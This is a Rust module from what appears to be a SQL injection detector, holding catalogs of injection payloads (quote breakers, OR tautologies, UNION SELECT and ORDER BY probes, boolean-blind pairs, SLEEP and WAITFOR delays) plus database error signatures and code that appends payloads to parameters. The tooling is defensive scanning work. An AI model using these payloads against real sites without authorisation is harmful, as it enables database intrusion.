//! Static payload catalogs and assembly rules for the SQL injection
//! detector. Data only; selection and scoring live in `sqli`.

use std::time::Duration;

use crate::detector::extract::ParamType;

#[derive(Debug, Clone, Copy)]
pub struct Payload {
    pub value: &'static str,
    pub description: &'static str,
    pub expected_delay: Option<Duration>,
}

#[derive(Debug, Clone, Copy)]
pub struct BooleanPair {
    pub true_payload: &'static str,
    pub false_payload: &'static str,
    pub description: &'static str,
}

const fn payload(value: &'static str, description: &'static str) -> Payload {
    Payload {
        value,
        description,
        expected_delay: None,
    }
}

const fn timed(value: &'static str, description: &'static str, secs: u64) -> Payload {
    Payload {
        value,
        description,
        expected_delay: Some(Duration::from_secs(secs)),
    }
}

/// Syntax-breaking payloads for string parameters.
pub const ERROR_PAYLOADS: &[Payload] = &[
    payload("'", "single quote"),
    payload("''", "doubled single quote"),
    payload("\"", "double quote"),
    payload("\\'", "escaped single quote"),
    payload("' OR '1'='1", "OR tautology"),
    payload("' AND '1'='1", "AND tautology"),
    payload("' UNION SELECT 1--", "union probe"),
    payload("';--", "statement terminator"),
    payload("' /*", "open comment"),
];

/// Additional error payloads applicable to numeric parameters.
pub const ERROR_PAYLOADS_NUMERIC: &[Payload] = &[
    payload(" OR 1=1", "numeric OR"),
    payload(" AND 1=1", "numeric AND"),
    payload(" UNION SELECT 1", "numeric union probe"),
    payload(" AND 1=CONVERT(int,(SELECT @@version))", "mssql convert probe"),
    payload(" AND 1=1/0", "division by zero"),
];

/// TRUE/FALSE pairs for boolean-blind detection.
pub const BOOLEAN_PAIRS: &[BooleanPair] = &[
    BooleanPair {
        true_payload: "' AND '1'='1",
        false_payload: "' AND '1'='2",
        description: "single-quoted string comparison",
    },
    BooleanPair {
        true_payload: "\" AND \"1\"=\"1",
        false_payload: "\" AND \"1\"=\"2",
        description: "double-quoted string comparison",
    },
    BooleanPair {
        true_payload: " AND 1=1",
        false_payload: " AND 1=2",
        description: "bare integer comparison",
    },
    BooleanPair {
        true_payload: "' AND 'a'='a",
        false_payload: "' AND 'a'='b",
        description: "letter comparison",
    },
];

/// Additional pairs applicable to numeric parameters.
pub const BOOLEAN_PAIRS_NUMERIC: &[BooleanPair] = &[BooleanPair {
    true_payload: " OR 1=1",
    false_payload: " OR 1=2",
    description: "integer OR comparison",
}];

/// Time-delay payloads; expected delay is used by the timing oracle.
pub const TIME_PAYLOADS: &[Payload] = &[
    timed("' AND SLEEP(5)--", "mysql sleep", 5),
    timed("' AND (SELECT SLEEP(5))--", "mysql subquery sleep", 5),
    timed("'; WAITFOR DELAY '00:00:05'--", "mssql waitfor", 5),
];

pub const TIME_PAYLOADS_NUMERIC: &[Payload] = &[
    timed(" AND SLEEP(5)", "numeric mysql sleep", 5),
    timed("; WAITFOR DELAY '00:00:05'", "numeric mssql waitfor", 5),
];

/// DBMS error signatures, matched case-insensitively as regexes over the
/// response body. Spans MySQL, PostgreSQL, MSSQL, Oracle, SQLite, and
/// generic SQL parser errors.
pub const SQL_ERROR_PATTERNS: &[&str] = &[
    // MySQL
    "you have an error in your sql syntax",
    "warning: mysql",
    "mysql_fetch",
    "mysql_num_rows",
    "mysql error",
    "supplied argument is not a valid mysql",
    "column count doesn't match value count",
    "operand should contain 1 column",
    "illegal mix of collations",
    "invalid use of group function",
    // PostgreSQL
    "postgresql query failed",
    "warning: pg_",
    "invalid query result",
    r"pg_query\(\) expects",
    r"pg_exec\(\) expects",
    // MSSQL
    "microsoft ole db provider",
    "odbc sql server driver",
    "microsoft sql native client",
    "sqlstate",
    "sqlexception",
    "unclosed quotation mark after the character string",
    "incorrect syntax near",
    // Oracle
    "ora-01756",
    "ora-00936",
    "ora-00942",
    "oracle error",
    "oracle driver",
    "quoted string not properly terminated",
    // SQLite
    "sqlite_error",
    r"sqlite3\.operationalerror",
    "no such column",
    "sql error or missing database",
    // Generic
    "sql syntax",
    "syntax error",
    "unexpected token",
    "invalid column name",
    "must declare the scalar variable",
    "table doesn't exist",
    "unknown column",
    "ambiguous column name",
    "division by zero error encountered",
    "data type mismatch",
    "conversion failed",
];

/// Loose indicator words for "this looks like an error page" checks.
pub const ERROR_INDICATOR_WORDS: &[&str] = &[
    "error", "warning", "exception", "fatal", "syntax", "invalid", "mysql", "postgres", "oracle",
    "mssql", "sqlite",
];

/// Error payload catalog for a parameter type.
pub fn error_payloads(param_type: ParamType) -> Vec<Payload> {
    let mut out = ERROR_PAYLOADS.to_vec();
    if param_type == ParamType::Numeric {
        out.extend_from_slice(ERROR_PAYLOADS_NUMERIC);
    }
    out
}

pub fn boolean_pairs(param_type: ParamType) -> Vec<BooleanPair> {
    let mut out = BOOLEAN_PAIRS.to_vec();
    if param_type == ParamType::Numeric {
        out.extend_from_slice(BOOLEAN_PAIRS_NUMERIC);
    }
    out
}

pub fn time_payloads(param_type: ParamType) -> Vec<Payload> {
    let mut out = TIME_PAYLOADS.to_vec();
    if param_type == ParamType::Numeric {
        out.extend_from_slice(TIME_PAYLOADS_NUMERIC);
    }
    out
}

/// Assemble the probe value: the payload is concatenated after the
/// original value. For numeric parameters the leading quote of an
/// expression payload is stripped so the expression lands in numeric
/// context; bare quote-run syntax breakers are kept verbatim.
pub fn assemble(param_type: ParamType, current_value: &str, template: &str) -> String {
    let template = if param_type == ParamType::Numeric {
        let stripped = template.trim_start_matches(['\'', '"']);
        if stripped.is_empty() {
            template
        } else {
            stripped
        }
    } else {
        template
    };
    format!("{current_value}{template}")
}

/// `ORDER BY k` column-count probe for UNION detection.
pub fn union_order_by(param_type: ParamType, current_value: &str, k: usize) -> String {
    assemble(param_type, current_value, &format!("' ORDER BY {k}--"))
}

/// `UNION SELECT` probe with a recognisable marker in the first column.
pub fn union_select(param_type: ParamType, current_value: &str, columns: usize) -> String {
    let cols: Vec<String> = (0..columns)
        .map(|i| {
            if i == 0 {
                "'UNION_TEST_0'".to_string()
            } else {
                format!("'COL_{i}'")
            }
        })
        .collect();
    let select = format!("UNION SELECT {}", cols.join(","));

    match param_type {
        ParamType::Numeric => format!("{current_value} {select}--"),
        _ => format!("{current_value}' {select}--"),
    }
}

/// Marker expected in the response when a UNION probe lands.
pub const UNION_MARKER: &str = "UNION_TEST_";
